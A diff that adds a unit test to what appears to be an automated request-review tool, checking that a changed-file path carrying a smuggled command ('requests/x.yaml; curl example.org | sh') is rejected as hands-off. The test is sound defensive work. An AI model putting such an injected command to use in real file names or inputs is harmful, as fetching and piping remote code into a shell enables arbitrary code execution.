@@ -574,6 +574,12 @@ def test_the_decision_table(changes: dict[str, Any], action: Action) -> None:
     assert bool(decision.reasons) == (action is Action.HANDS_OFF)
 
 
+def test_a_path_that_is_not_a_request_never_reaches_the_reviewers_steps() -> None:
+    hostile = {"requests/x.yaml; curl example.org | sh": "A"}
+    decision = decide(state(changed=hostile))
+    assert decision.action is Action.HANDS_OFF and decision.request is None
+
+
 # --- git without force, and the token never in an argument, an address or a message -----------
 
 
